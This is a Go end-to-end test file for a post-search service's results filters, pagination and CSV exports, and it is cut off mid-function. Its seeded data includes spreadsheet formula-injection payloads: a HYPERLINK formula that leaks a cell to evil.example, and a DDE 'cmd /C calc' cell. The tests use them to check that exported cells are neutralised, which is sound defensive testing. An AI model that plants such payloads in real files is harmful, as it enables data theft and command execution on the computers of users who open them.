package main

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/trawlhq/trawl/bench/seed"
	"github.com/trawlhq/trawl/internal/ident"
	"github.com/trawlhq/trawl/internal/search"
	"github.com/trawlhq/trawl/internal/source"
	"github.com/trawlhq/trawl/internal/store"
	"github.com/trawlhq/trawl/internal/topic"
)

// End-to-end tests of the results filters and the CSV exports of results
// and topic engagers. The data is seeded with the store while the server is
// stopped (a paused search and a paused topic, so nothing collects into
// them and the expected answers are known), then the real server answers
// over HTTP. Expectations come from an oracle written here from the rules
// in docs/decisions.md, not from the code under test.

// exportFixture is a server with a seeded search of mixed pronet and
// microblog results and a topic whose engagers are the seeded people.
type exportFixture struct {
	ts       *testServer
	st       *store.Store
	account  string
	searchID string
	topicID  string
	items    []source.Item            // the search's results, newest first
	people   map[string]topic.Profile // collected profiles, by username
}

// Microblog authors of the seeded results: their bio and location, and the
// country the location names (the oracle's, written by hand).
var exportProfiles = []struct{ description, location, country string }{
	{"Head of Sales @ Acme | CRM nerd", "Berlin, Germany", "DE"},
	{"Founder & CEO, Ümlaut GmbH. Computer software for sales teams", "München, Deutschland", ""},
	{"Sales director", "Austin, TX", ""},
	{`Software engineer, "quotes", and commas`, "London, UK", "GB"},
	{"", "", ""},
	{"VP Marketing at Globex", "Paris, France", "FR"},
}

// Post texts that CSV must quote or neutralise.
var exportTexts = []string{
	"Plain text about pipeline reviews",
	`Text with "double quotes", commas, and a trailing quote"`,
	"Line one\nline two\r\nline three",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"-5 tips for cold outreach, +1 if you agree",
	"@everyone Ünïcödé and emoji 🚀",
}

func exportPeople() []topic.Profile {
	people := []topic.Profile{
		{Username: "anna-berg", FullName: "Anna Berg", JobTitle: "Head of Sales", Company: "Acme, Inc.", Industry: "Computer Software", Country: "DE"},
		{Username: "bob-stone", FullName: `Bob "The Closer" Stone`, Headline: "VP Sales at Globex", Company: "Globex", Industry: "Financial Services", Country: "US"},
		{Username: "chloe-martin", FullName: "Chloé Martin", JobTitle: "Directeur Général", Company: "SOCIÉTÉ GÉNÉRALE", Industry: "Banking", Country: "FR"},
		{Username: "dev-patel", FullName: "Dev Patel", JobTitle: "Software Engineer", Company: "Initech", Industry: "Computer Software", Country: "GB"},
		{Username: "eve-k", FullName: "Eve K", JobTitle: "CTO", Company: "=cmd|' /C calc'!A0", Industry: "Information Technology & Services", Country: "US"},
	}
	titles := []string{"Account Executive", "Sales Manager", "Marketing Director", "Founder", "Data Scientist"}
	companies := []string{"Hooli", "Umbrella", "Acme Corp", "Stark Industries"}
	industries := []string{"Computer Software", "Marketing Services", "Banking"}
	countries := []string{"US", "DE", "FR", "IN", "BR"}
	for i := range 30 {
		people = append(people, topic.Profile{Username: fmt.Sprintf("member-%02d", i), FullName: fmt.Sprintf("Member %02d", i),
			JobTitle: titles[i%len(titles)], Company: companies[i%len(companies)], Industry: industries[i%len(industries)],
			Country: countries[i%len(countries)]})
	}
	for i := range people {
		p := &people[i]
		p.URN = "urn:li:person:export" + strconv.Itoa(i)
		p.PronetURL = "https://www.linkedin.com/in/" + p.Username
		p.FirstName, p.LastName, _ = strings.Cut(p.FullName, " ")
		followers := int64(100 * i)
		p.Followers = &followers
	}
	return people
}

// exportItems makes n results, newest first: three to a second (so paging
// relies on the post-id tie-break), every fourth by a microblog author, every
// ninth by a pronet member whose profile was never collected.
func exportItems(n int, base time.Time, people []topic.Profile) []source.Item {
	items := make([]source.Item, 0, n)
	for i := n - 1; i >= 0; i-- {
		id := strconv.FormatInt(7_000_000_000_000_000_000+int64(i), 10)
		it := source.Item{ID: id, PublishedAt: base.Add(time.Duration(i/3) * time.Second), CollectedAt: base.Add(48 * time.Hour),
			Content:    source.Content{Text: exportTexts[i%len(exportTexts)] + " #" + strconv.Itoa(i)},
			Engagement: source.Engagement{Likes: i % 50, Comments: i % 7}}
		switch {
		case i%4 == 0:
			p := exportProfiles[(i/4)%len(exportProfiles)]
			user := "mb_user" + strconv.Itoa(i%13)
			followers := 10 * i
			it.Source = "microblog"
			it.Author = source.Author{Name: "Microblog " + user, Username: user, ProfileURL: "https://x.com/" + user,
				Avatar: "https://pbs.twimg.com/" + user + ".jpg", Followers: &followers, Description: p.description, Location: p.location}
			it.Content.URL = "https://x.com/" + user + "/status/" + id
			it.Content.Media = []source.Media{{Type: "photo", URL: "https://pbs.twimg.com/media/" + id + ".jpg"}}
			shares := i % 11
			it.Engagement.Shares = &shares
		default:
			name, user := "Ghost Member", "ghost-"+strconv.Itoa(i)
			if i%9 != 0 {
				p := people[i%len(people)]
				name, user = p.FullName, p.Username
			}
			it.Source = "pronet"
			it.Author = source.Author{Name: name, Username: user, ProfileURL: "https://www.linkedin.com/in/" + user}
			it.Content.URL = "https://www.linkedin.com/feed/update/urn:li:activity:" + id + "/"
		}
		items = append(items, it)
	}
	return items
}

func newExportFixture(t *testing.T, engine store.Dialect) *exportFixture {
	t.Helper()
	env := serverEnv(t, engine, map[string]string{"TRAWL_RATE_LIMIT_CUSTOM": "100000"})
	// The first start creates the account and its key; the data is seeded
	// while no server runs, then the server starts again on it.
	startServer(t, env).stop()
	ctx := t.Context()
	st, err := store.Open(ctx, env["TRAWL_DATABASE_URL"], time.Now)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	accounts, err := st.Accounts(ctx)
	if err != nil || len(accounts) != 1 {
		t.Fatalf("accounts = %v, %v", accounts, err)
	}
	fx := &exportFixture{st: st, account: accounts[0].ID, people: map[string]topic.Profile{}}

	// The topic and its engagers: each person comments on or likes a post.
	tp := topic.Topic{AccountID: fx.account, Name: "export", Definition: topic.Definition{Keywords: []string{"sales"},
		TimeFrame: topic.DefaultTimeFrame, MaxResults: topic.DefaultMaxResults, SortBy: topic.DefaultSortBy}}
	if err := st.CreateTopic(ctx, &tp, time.Minute); err != nil {
		t.Fatal(err)
	}
	tp.Status = topic.StatusPaused
	if err := st.UpdateTopic(ctx, &tp, time.Minute); err != nil {
		t.Fatal(err)
	}
	fx.topicID = tp.ID
	base := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
	gen := seed.NewTopicData(base)
	var posts []seed.Post
	for n := range 3 {
		posts = append(posts, seed.Post{Post: gen.Post(n), LinkedAt: base, Interval: topic.Initial})
	}
	if _, err := seed.TopicPosts(ctx, st, tp.ID, posts); err != nil {
		t.Fatal(err)
	}
	people := exportPeople()
	var es []seed.Engagement
	for i, p := range people {
		fx.people[p.Username] = p
		e := seed.Engagement{PostURN: posts[i%len(posts)].URN, Person: p, Type: "like", ReactionType: "LIKE",
			At: base.Add(time.Duration(i/2) * time.Minute), Interval: topic.Initial}
		if i%2 == 0 {
			e.Type, e.ReactionType, e.Text, e.CommentURN = "comment", "", exportTexts[i%len(exportTexts)], fmt.Sprintf("urn:li:comment:%d", i)
		}
		es = append(es, e)
	}
	if _, err := seed.TopicEngagements(ctx, st, tp.ID, base.Add(time.Hour), es); err != nil {
		t.Fatal(err)
	}

	// The search: a pronet search's results, with microblog ones mixed in to
	// cover both kinds of author in one list.
	sr := search.Search{AccountID: fx.account, Name: "export", Kind: "pronet-posts",
		Definition: search.Definition{Keywords: []string{"sales"}}}
	if err := seed.Search(ctx, st, &sr); err != nil {
		t.Fatal(err)
	}
	fx.searchID = sr.ID
	fx.items = exportItems(640, base, people)
	if _, err := seed.Results(ctx, st, sr.ID, base, fx.items); err != nil {
		t.Fatal(err)
	}
	fx.ts = startServer(t, env)
	return fx
}

// authorFilter is the oracle's filter.
type authorFilter struct{ jobTitle, company, industry, country string }

func (f authorFilter) query() url.Values {
	q := url.Values{}
	for k, v := range map[string]string{"job_title": f.jobTitle, "company": f.company, "industry": f.industry, "country": f.country} {
		if v != "" {
			q.Set(k, v)
		}
	}
	return q
}

func lowerContains(s, sub string) bool {
	return s != "" && strings.Contains(strings.ToLower(s), strings.ToLower(sub))
}

// matchPerson is the rule for pronet members: title (the headline when the
// title is empty) and company contain, industry is whole, country the code.
func (f authorFilter) matchPerson(p topic.Profile) bool {
	title := p.JobTitle
	if title == "" {
		title = p.Headline
	}
	return (f.jobTitle == "" || lowerContains(title, f.jobTitle)) &&
		(f.company == "" || lowerContains(p.Company, f.company)) &&
		(f.industry == "" || strings.EqualFold(p.Industry, f.industry)) &&
		(f.country == "" || p.Country == f.country)
}

// want is the oracle: whether the filter keeps a result.
func (fx *exportFixture) want(f authorFilter, it source.Item) bool {
	if it.Source == "pronet" {
		p, ok := fx.people[it.Author.Username]
		return ok && f.matchPerson(p)
	}
	country := ""
	for _, p := range exportProfiles {
		if p.location == it.Author.Location {
			country = p.country
		}
	}
	for _, w := range []string{f.jobTitle, f.company, f.industry} {
		if w != "" && !lowerContains(it.Author.Description, w) {
			return false
		}
	}
	return f.country == "" || country == f.country
}

type filterCase struct {
	name  string
	query url.Values // as sent
	f     authorFilter
	from  time.Time
}

func exportFilterCases(fx *exportFixture) []filterCase {
	mid := fx.items[len(fx.items)/2].PublishedAt
	cases := []filterCase{
		{name: "job title", f: authorFilter{jobTitle: "sales"}},
		{name: "job title in another case", f: authorFilter{jobTitle: "HEAD OF SALES"}},
		{name: "job title from the headline", f: authorFilter{jobTitle: "vp"}},
		{name: "company", f: authorFilter{company: "acme"}},
		{name: "company, not ASCII", f: authorFilter{company: "Société Générale"}},
		{name: "nobody: ASCII against accented", f: authorFilter{company: "generale"}},
		{name: "industry, whole for members", f: authorFilter{industry: "computer software"}},
		{name: "industry, part of a word", f: authorFilter{industry: "software"}},
		{name: "country code", f: authorFilter{country: "DE"}},
		{name: "country in lower case", f: authorFilter{country: "gb"}},
		{name: "title and country", f: authorFilter{jobTitle: "sales", country: "US"}},
		{name: "every filter", f: authorFilter{jobTitle: "engineer", company: "initech", industry: "Computer Software", country: "GB"}},
		{name: "nobody", f: authorFilter{company: "zzz-no-such"}},
		{name: "title since mid", f: authorFilter{jobTitle: "sales"}, from: mid},
	}
	for i := range cases {
		cases[i].query = cases[i].f.query()
		if cases[i].f.country != "" {
			cases[i].f.country = strings.ToUpper(cases[i].f.country)
		}
		if !cases[i].from.IsZero() {
			cases[i].query.Set("from", cases[i].from.Format(time.RFC3339))
		}
	}
	// English names read as the codes.
	for _, n := range []struct{ name, code string }{{"germany", "DE"}, {"United Kingdom", "GB"}, {"FRANCE", "FR"}} {
		cases = append(cases, filterCase{name: "country " + n.name, query: url.Values{"country": {n.name}}, f: authorFilter{country: n.code}})
	}
	return cases
}

func (fx *exportFixture) expected(c filterCase) []source.Item {
	var out []source.Item
	for _, it := range fx.items {
		if fx.want(c.f, it) && !it.PublishedAt.Before(c.from) {
			out = append(out, it)
		}
	}
	return out
}

type resultsPage struct {
	Data       []source.Item `json:"data"`
	Pagination pageInfo      `json:"pagination"`
}

// allResults pages through the results of a query, checking that every
// page reports the same total; it returns the items and that total.
func (fx *exportFixture) allResults(t *testing.T, id string, q url.Values, limit int) ([]source.Item, int64) {
	t.Helper()
	q = cloneValues(q)
	q.Set("limit", strconv.Itoa(limit))
	var (
		items []source.Item
		total int64 = -1
	)
	for pages := 0; ; pages++ {
		var p resultsPage
		r := mustDo(t, fx.ts.Client, http.MethodGet, "/v1/searches/"+id+"/results?"+q.Encode(), nil, 200)
		if err := json.Unmarshal(r.Body, &p); err != nil {
			t.Fatal(err)
		}
		if p.Pagination.TotalCount == nil || (total >= 0 && *p.Pagination.TotalCount != total) {
			t.Fatalf("page %d total_count = %v, earlier pages %d", pages, p.Pagination.TotalCount, total)
		}
		total = *p.Pagination.TotalCount
		if len(p.Data) > limit || (p.Pagination.HasMore && len(p.Data) != limit) {
			t.Fatalf("page %d has %d items (limit %d, has_more %v)", pages, len(p.Data), limit, p.Pagination.HasMore)
		}
		items = append(items, p.Data...)
		if !p.Pagination.HasMore {
			return items, total
		}
		q.Set("cursor", *p.Pagination.NextCursor)
		if pages > 1000 {
			t.Fatal("paging does not end")
		}
	}
}

func cloneValues(q url.Values) url.Values {
	out := url.Values{}
	for k, v := range q {
		out[k] = slices.Clone(v)
	}
	return out
}

func ids(items []source.Item) []string {
	out := make([]string, len(items))
	for i, it := range items {
		out[i] = it.ID
	}
	return out
}

// get sends a GET with extra headers and returns the answer whole.
func (fx *exportFixture) get(t *testing.T, path string, header map[string]string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, fx.ts.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("x-api-key", fx.ts.Key)
	for k, v := range header {
		req.Header.Set(k, v)
	}
	resp, err := fx.ts.HTTP.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, body
}

// getCSV asks for path as CSV and returns its records after checking the
// answer's headers and the header row.
func (fx *exportFixture) getCSV(t *testing.T, path string, header map[string]string, wantHeader []string) [][]string {
	t.Helper()
	resp, body := fx.get(t, path, header)
	if resp.StatusCode != 200 {
		t.Fatalf("GET %s = %d %s", path, resp.StatusCode, body)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Fatalf("Content-Type = %q", ct)
	}
	if cd := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=") || !strings.HasSuffix(cd, `.csv"`) {
		t.Fatalf("Content-Disposition = %q", cd)
	}
	r := csv.NewReader(strings.NewReader(string(body)))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%.500s", err, body)
	}
	if len(records) == 0 || !slices.Equal(records[0], wantHeader) {
		t.Fatalf("header row = %q, want %q", records[0], wantHeader)
	}
	return records[1:]
}

var resultsHeader = []string{"id", "source", "published_at", "collected_at", "url", "text",
	"author_name", "author_username", "author_profile_url", "author_avatar", "author_followers",
	"author_description", "author_location", "author_job_title", "author_company", "author_industry", "author_country",
	"likes", "comments", "shares", "media"}

// cell is a value as a CSV reader gets it back: formula-like cells have a
// leading ', and line breaks inside a cell are CRLF as RFC 4180 writes them
// (a lone CR is dropped), which encoding/csv reads back as LF.
func cell(v string) string {
	if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
		v = "'" + v
	}
	return strings.ReplaceAll(strings.ReplaceAll(v, "\r\n", "\n"), "\r", "")
}

func optInt(n *int) string {
	if n == nil {
		return ""
	}
	return strconv.Itoa(*n)
}

// resultRecord is the oracle's CSV record of a result as the JSON showed it.
func (fx *exportFixture) resultRecord(it source.Item) []string {
	var title, company, industry, country string
	if it.Source == "pronet" {
		if p, ok := fx.people[it.Author.Username]; ok {
			title, company, industry, country = p.JobTitle, p.Company, p.Industry, p.Country
			if title == "" {
				title = p.Headline
			}
		}
	} else {
		for _, p := range exportProfiles {
			if p.location == it.Author.Location {
				country = p.country
			}
		}
	}
	var media []string
	for _, m := range it.Content.Media {
		media = append(media, m.URL)
	}
	rec := []string{it.ID, it.Source, it.PublishedAt.Format(source.TimeLayout), it.CollectedAt.Format(source.TimeLayout),
		it.Content.URL, it.Content.Text, it.Author.Name, it.Author.Username, it.Author.ProfileURL, it.Author.Avatar,
		optInt(it.Author.Followers), it.Author.Description, it.Author.Location, title, company, industry, country,
		strconv.Itoa(it.Engagement.Likes), strconv.Itoa(it.Engagement.Comments), optInt(it.Engagement.Shares),
		strings.Join(media, " ")}
	for i := range rec {
		rec[i] = cell(rec[i])
	}
	return rec
}

func TestResultsFiltersAndExports(t *testing.T) {
	forEachEngine(t, func(t *testing.T, engine store.Dialect) {
		fx := newExportFixture(t, engine)
		t.Run("filters page with exact totals", func(t *testing.T) { testResultFilters(t, fx) })
		t.Run("results as CSV", func(t *testing.T) { testResultsCSV(t, fx) })
		t.Run("engagers filtered and as CSV", func(t *testing.T) { testEngagersCSV(t, fx) })
		t.Run("bad parameters", func(t *testing.T) { testExportBadParameters(t, fx) })
		t.Run("OpenAPI describes CSV", func(t *testing.T) { testExportOpenAPI(t, fx) })
		t.Run("CSV streams while the database is read", func(t *testing.T) { testCSVStreams(t, fx) })
	})
}

func testResultFilters(t *testing.T, fx *exportFixture) {
	all, total := fx.allResults(t, fx.searchID, nil, 500)
	if total != int64(len(fx.items)) || !slices.Equal(ids(all), ids(fx.items)) {
		t.Fatalf("unfiltered: %d results (total %d), want the %d seeded newest first", len(all), total, len(fx.items))
	}
	for _, c := range exportFilterCases(fx) {
		t.Run(c.name, func(t *testing.T) {
			want := fx.expected(c)
			// Small pages cross the store's read batches; one big page must agree.
			for _, limit := range []int{7, 500} {
				got, total := fx.allResults(t, fx.searchID, c.query, limit)
				if total != int64(len(want)) {
					t.Fatalf("limit %d: total_count %d, want %d", limit, total, len(want))
				}
				if !slices.Equal(ids(got), ids(want)) {
					t.Fatalf("limit %d: %d results %v…, want %d %v…", limit, len(got), ids(got)[:min(5, len(got))], len(want), ids(want)[:min(5, len(want))])
				}
			}
		})
	}
	// The oracle is not vacuous: the interesting cases select something, and not everything.
	for _, c := range exportFilterCases(fx) {
		n := len(fx.expected(c))
		if !strings.HasPrefix(c.name, "nobody") && (n == 0 || n == len(fx.items)) {
			t.Errorf("case %q selects %d of %d results", c.name, n, len(fx.items))
		}
	}
	// Case-insensitivity beyond ASCII: the accented company is found by its
	// lower-case spelling, and only by it.
	got, _ := fx.allResults(t, fx.searchID, url.Values{"company": {"société générale"}}, 500)
	if len(got) == 0 {
		t.Fatal("company=société générale found nothing")
	}
	for _, it := range got {
		if it.Author.Username != "chloe-martin" {
			t.Fatalf("company=société générale kept %s's result", it.Author.Username)
		}
	}
	// The microblog author data is in the JSON as stored.
	for _, it := range all {
		if it.Source == "microblog" && it.Author.Location == "Berlin, Germany" && it.Author.Description != "Head of Sales @ Acme | CRM nerd" {
			t.Fatalf("microblog author = %+v", it.Author)
		}
	}
}

func testResultsCSV(t *testing.T, fx *exportFixture) {
	base := "/v1/searches/" + fx.searchID + "/results"
	for _, c := range []filterCase{{name: "everything"}, {name: "sales", query: url.Values{"job_title": {"sales"}}},
		{name: "Germany", query: url.Values{"country": {"Germany"}}}, {name: "nobody", query: url.Values{"company": {"zzz"}}}} {
		t.Run(c.name, func(t *testing.T) {
			jsonItems, _ := fx.allResults(t, fx.searchID, c.query, 500)
			q := cloneValues(c.query)
			q.Set("format", "csv")
			records := fx.getCSV(t, base+"?"+q.Encode(), nil, resultsHeader)
			if len(records) != len(jsonItems) {
				t.Fatalf("CSV has %d rows, JSON %d results", len(records), len(jsonItems))
			}
			for i, it := range jsonItems {
				if want := fx.resultRecord(it); !slices.Equal(records[i], want) {
					t.Fatalf("row %d = %q\nwant     %q", i+1, records[i], want)
				}
			}
		})
	}

	// Accept: text/csv answers the same bytes as format=csv; JSON wins ties,
	// */* and an explicit format=json.
	_, byFormat := fx.get(t, base+"?format=csv&job_title=sales", nil)
	resp, byAccept := fx.get(t, base+"?job_title=sales", map[string]string{"Accept": "text/csv"})
	if resp.StatusCode != 200 || string(byAccept) != string(byFormat) {
		t.Fatalf("Accept: text/csv = %d, %d bytes; format=csv %d bytes", resp.StatusCode, len(byAccept), len(byFormat))
	}
	if resp.Header.Get("Vary") != "Accept" {
		t.Fatalf("Vary = %q", resp.Header.Get("Vary"))
	}
	for _, h := range []map[string]string{{"Accept": "application/json, text/csv"}, {"Accept": "*/*"}, {"Accept": "text/csv;q=0.5, application/json"}} {
		resp, body := fx.get(t, base+"?limit=3", h)
		if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/json") || !json.Valid(body) {
			t.Fatalf("Accept %q = %d %s", h["Accept"], resp.StatusCode, resp.Header.Get("Content-Type"))
		}
	}
	resp, body := fx.get(t, base+"?format=json&limit=3", map[string]string{"Accept": "text/csv"})
	if resp.StatusCode != 200 || !json.Valid(body) {
		t.Fatalf("format=json with Accept: text/csv = %d %.100s", resp.StatusCode, body)
	}

	// The awkward texts survive quoting: commas, quotes, CR LF inside a cell.
	records := fx.getCSV(t, base+"?format=csv", nil, resultsHeader)
	texts := map[string]bool{}
	for _, r := range records {
		texts[r[5]] = true
	}
	for _, want := range []string{`Text with "double quotes", commas, and a trailing quote" #1`, "Line one\nline two\nline three #2",
		"'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") #3", "'-5 tips for cold outreach, +1 if you agree #4"} {
		if !texts[want] {
			t.Errorf("no CSV cell reads %q", want)
		}
	}
}

var engagersHeader = []string{"id", "prospect_id", "full_name", "first_name", "last_name", "pronet_url", "headline",
	"job_title", "company", "company_domain", "company_size", "industry", "country", "followers",
	"engagement_type", "engagement_text", "pronet_post_id", "discovery_interval", "created"}

type engagerView struct {
	ID                string `json:"id"`
	ProspectID        string `json:"prospect_id"`
	PronetPostID      string `json:"pronet_post_id"`
	DiscoveryInterval string `json:"discovery_interval"`
	Created           string `json:"created"`
	Prospect          struct {
		FullName  string `json:"full_name"`
		PronetURL string `json:"pronet_url"`
		JobTitle  string `json:"job_title"`
		Company   string `json:"company"`
	} `json:"prospect"`
	Engagement struct {
		Type string `json:"type"`
		Text string `json:"text"`
	} `json:"engagement"`
}

type engagersPage struct {
	Data       []engagerView `json:"data"`
	Pagination struct {
		TotalCount int64   `json:"total_count"`
		TotalPages int64   `json:"total_pages"`
		NextCursor *string `json:"next_cursor"`
	} `json:"pagination"`
}

// engagers reads every engager through the cursor, and through page=,
// checking that both agree and report the same total.
func (fx *exportFixture) engagers(t *testing.T, q url.Values) []engagerView {
	t.Helper()
	var byCursor, byPage []engagerView
	var total int64 = -1
	for cursor := "start"; cursor != ""; {
		qq := cloneValues(q)
		qq.Set("cursor", cursor)
		qq.Set("page_size", "4")
		var p engagersPage
		if err := json.Unmarshal(mustDo(t, fx.ts.Client, http.MethodGet, "/v1/topics/"+fx.topicID+"/engagements?"+qq.Encode(), nil, 200).Body, &p); err != nil {
			t.Fatal(err)
		}
		if total >= 0 && p.Pagination.TotalCount != total {
			t.Fatalf("total_count changed from %d to %d", total, p.Pagination.TotalCount)
		}
		total = p.Pagination.TotalCount
		byCursor = append(byCursor, p.Data...)
		cursor = ""
		if p.Pagination.NextCursor != nil {
			cursor = *p.Pagination.NextCursor
		}
	}
	for page := 1; ; page++ {
		qq := cloneValues(q)
		qq.Set("page", strconv.Itoa(page))
		qq.Set("page_size", "3")
		var p engagersPage
		if err := json.Unmarshal(mustDo(t, fx.ts.Client, http.MethodGet, "/v1/topics/"+fx.topicID+"/engagements?"+qq.Encode(), nil, 200).Body, &p); err != nil {
			t.Fatal(err)
		}
		if p.Pagination.TotalCount != total || p.Pagination.TotalPages != (total+2)/3 {
			t.Fatalf("page %d pagination %+v, total by cursor %d", page, p.Pagination, total)
		}
		if len(p.Data) == 0 {
			break
		}
		byPage = append(byPage, p.Data...)
	}
	if int64(len(byCursor)) != total || len(byPage) != len(byCursor) {
		t.Fatalf("%d engagers by cursor, %d by page, total_count %d", len(byCursor), len(byPage), total)
	}
	for i := range byPage {
		if byPage[i].ID != byCursor[i].ID {
			t.Fatalf("engager %d: %s by page, %s by cursor", i, byPage[i].ID, byCursor[i].ID)
		}
	}
	return byCursor
}

func testEngagersCSV(t *testing.T, fx *exportFixture) {
	path := "/v1/topics/" + fx.topicID + "/engagements"
	byURN := map[string]topic.Profile{}
	for _, p := range fx.people {
		byURN[p.URN] = p
	}
	for _, f := range []authorFilter{{}, {jobTitle: "sales"}, {country: "FR"}, {company: "société"}, {industry: "banking", country: "FR"}, {company: "nobody"}} {
		t.Run(fmt.Sprintf("%+v", f), func(t *testing.T) {
			q := f.query()
			got := fx.engagers(t, q)
			var want []string
			for _, p := range fx.people {
				if f.matchPerson(p) {
					want = append(want, p.URN)
				}
			}
			var gotURNs []string
			for _, e := range got {
				gotURNs = append(gotURNs, e.ProspectID)
			}
			slices.Sort(want)
			if sorted := slices.Sorted(slices.Values(gotURNs)); !slices.Equal(sorted, want) {
				t.Fatalf("engagers %v, want %v", sorted, want)
			}
			q.Set("format", "csv")
			records := fx.getCSV(t, path+"?"+q.Encode(), nil, engagersHeader)
			if len(records) != len(got) {
				t.Fatalf("CSV has %d rows, JSON %d engagers", len(records), len(got))
			}
			for i, e := range got {
				p := byURN[e.ProspectID]
				want := []string{e.ID, e.ProspectID, e.Prospect.FullName, p.FirstName, p.LastName, e.Prospect.PronetURL, p.Headline,
					e.Prospect.JobTitle, e.Prospect.Company, "", "", p.Industry, p.Country, strconv.FormatInt(*p.Followers, 10),
					e.Engagement.Type, e.Engagement.Text, e.PronetPostID, e.DiscoveryInterval, e.Created}
				for j := range want {
					want[j] = cell(want[j])
				}
				if !slices.Equal(records[i], want) {
					t.Fatalf("row %d = %q\nwant     %q", i+1, records[i], want)
				}
			}
		})
	}
	// Accept: text/csv works here too.
	resp, body := fx.get(t, path, map[string]string{"Accept": "text/csv"})
	if resp.StatusCode != 200 || !strings.HasPrefix(string(body), strings.Join(engagersHeader, ",")+"\r\n") {
		t.Fatalf("Accept: text/csv = %d %.200s", resp.StatusCode, body)
	}
}

func testExportBadParameters(t *testing.T, fx *exportFixture) {
	results := "/v1/searches/" + fx.searchID + "/results"
	engagers := "/v1/topics/" + fx.topicID + "/engagements"
	for _, c := range []struct {
		path   string
		fields []string
	}{
		{results + "?country=Atlantis", []string{"query.country"}},
		{results + "?country=", []string{"query.country"}},
		{results + "?job_title=%20%20", []string{"query.job_title"}},
		{results + "?company=a&company=b", []string{"query.company"}},
		{results + "?industry=" + strings.Repeat("x", 201), []string{"query.industry"}},
		{results + "?format=xml", []string{"query.format"}},
		{results + "?format=csv&limit=10", []string{"query.limit"}},
		{results + "?format=csv&cursor=abc", []string{"query.cursor"}},
		{results + "?from=yesterday", []string{"query.from"}},
		{results + "?limit=0", []string{"query.limit"}},
		{results + "?limit=501", []string{"query.limit"}},
		{results + "?cursor=not-a-cursor", []string{"query.cursor"}},
		{results + "?jobtitle=sales", []string{"query.jobtitle"}},
		// Every problem at once.
		{results + "?country=Atlantis&format=pdf&from=soon&job_title=", []string{"query.country", "query.format", "query.from", "query.job_title"}},
		{results + "?company=x&job_title=sales&cursor=bad", []string{"query.cursor"}},
		{engagers + "?country=Narnia", []string{"query.country"}},
		{engagers + "?format=csv&page=2", []string{"query.page"}},
		{engagers + "?format=csv&page_size=5&cursor=start", []string{"query.page_size", "query.cursor"}},
		{engagers + "?format=tsv", []string{"query.format"}},
		{engagers + "?job_title=sales&cursor=bad", []string{"query.cursor"}},
		{engagers + "?sort=name", []string{"query.sort"}},
	} {
		r := do(t, fx.ts.Client, http.MethodGet, c.path, nil)
		wantError(t, r, 400, "VALIDATION_ERROR", c.fields...)
	}
	// A CSV request that fails before streaming is a JSON error, not CSV.
	resp, body := fx.get(t, results+"?country=Atlantis", map[string]string{"Accept": "text/csv"})
	if resp.StatusCode != 400 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/json") || !json.Valid(body) {
		t.Fatalf("bad CSV request = %d %s %s", resp.StatusCode, resp.Header.Get("Content-Type"), body)
	}
	resp, _ = fx.get(t, "/v1/searches/"+ident.New()+"/results?format=csv", nil)
	if resp.StatusCode != 404 {
		t.Fatalf("CSV of an unknown search = %d", resp.StatusCode)
	}
	// Reading results is free, CSV included.
	resp, _ = fx.get(t, results+"?format=csv", nil)
	if got := resp.Header.Get("x-spent-credits"); got != "" && got != "0" {
		t.Fatalf("x-spent-credits = %q", got)
	}
}

func testExportOpenAPI(t *testing.T, fx *exportFixture) {
	var doc struct {
		Paths map[string]map[string]struct {
			Parameters []struct {
				Name string `json:"name"`
				In   string `json:"in"`
			} `json:"parameters"`
			Responses map[string]struct {
				Content map[string]json.RawMessage `json:"content"`
			} `json:"responses"`
		} `json:"paths"`
	}
	if err := json.Unmarshal(mustDo(t, fx.ts.Client, http.MethodGet, "/openapi.json", nil, 200).Body, &doc); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{"/v1/searches/{id}/results", "/v1/topics/{id}/engagements"} {
		op := doc.Paths[path]["get"]
		ok := op.Responses["200"].Content
		if ok["text/csv"] == nil || !strings.Contains(string(ok["application/json"]), "$ref") {
			t.Errorf("%s 200 content = %v", path, ok)
		}
		var params []string
		for _, p := range op.Parameters {
			params = append(params, p.In+"."+p.Name)
		}
		for _, want := range []string{"query.job_title", "query.company", "query.industry", "query.country", "query.format", "header.Accept"} {
			if !slices.Contains(params, want) {
				t.Errorf("%s does not declare %s (has %v)", path, want, params)
			}
		}
	}
}

// testCSVStreams shows that an export is written while the database is
// still being read, not gathered first: the client reads the first row of
// an export several times larger than what can be in flight between server
// and client (the server's socket send buffer at its largest, the client's
// receive buffer, which the test makes small, and one batch the server
// holds), stops reading, and a result older than every other one is stored;
// that result is the export's last row. Had the server read every row
// before writing, it could not be there.
func testCSVStreams(t *testing.T, fx *exportFixture) {
	ctx := t.Context()
	sr := search.Search{AccountID: fx.account, Name: "big", Kind: search.KindPosts, Definition: search.Definition{Keywords: []string{"go"}}}
	if err := seed.Search(ctx, fx.st, &sr); err != nil {
		t.Fatal(err)
	}
	const rowSize, rcvbuf, csvBatch = 4096, 64 << 10, 1000
	// The kernel doubles a socket buffer size it is given.
	inFlight := sysctlMax(t, "/proc/sys/net/ipv4/tcp_wmem", 4<<20) + 2*rcvbuf + 64<<10
	n := 3 * (inFlight/rowSize + csvBatch)
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	text := strings.Repeat("Streaming, \"quoted\" and long. ", rowSize/32)
	item := func(i int) source.Item {
		id := strconv.FormatInt(8_000_000_000_000_000_000+int64(i), 10)
